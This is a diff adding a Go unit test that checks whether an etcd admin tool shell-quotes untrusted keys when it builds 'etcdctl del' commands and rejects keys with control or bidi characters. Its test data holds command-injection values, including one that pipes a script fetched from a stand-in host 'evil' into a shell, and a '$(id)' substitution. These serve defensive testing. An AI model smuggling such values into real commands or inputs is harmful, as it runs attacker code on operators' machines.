@@ -24,6 +24,29 @@ func TestTextIsCutInTheMiddle(t *testing.T) {
 	}
 }
 
+// Others have chosen the key, and an operator pastes the command.
+func TestKeyInACommandIsOneWordOfAShell(t *testing.T) {
+	for key, want := range map[string]string{
+		"/jobs/x":                  "etcdctl del /jobs/x",
+		"/jobs/x;curl evil|sh":     "etcdctl del '/jobs/x;curl evil|sh'",
+		"/jobs/$(id)`id`\"$HOME\"": "etcdctl del '/jobs/$(id)`id`\"$HOME\"'",
+		"/jobs/it's":               `etcdctl del '/jobs/it'\''s'`,
+		"/jobs/a\nb":               "",
+		"/jobs/\x1b[2J":            "",
+		"/jobs/\xff":               "",
+		"/jobs/\u202e":             "",
+		"/jobs/ä ö":                "etcdctl del '/jobs/ä ö'",
+		"a(b":                      "etcdctl del 'a(b'",
+	} {
+		if got := endCommand(admin.Entry{Key: key}); got != want {
+			t.Errorf("%q: %s, want %s", key, got, want)
+		}
+	}
+	if got := endCommand(admin.Entry{Key: "/jobs/$(id)", Lease: 0x694d}); got != "etcdctl lease revoke 694d" {
+		t.Errorf("%s", got)
+	}
+}
+
 // A candidate of election.NewAt has a value and no owner, as one of etcd's own clients.
 func TestOwnerOfACandidateWithoutOneIsItsValue(t *testing.T) {
 	for want, e := range map[string]admin.Entry{
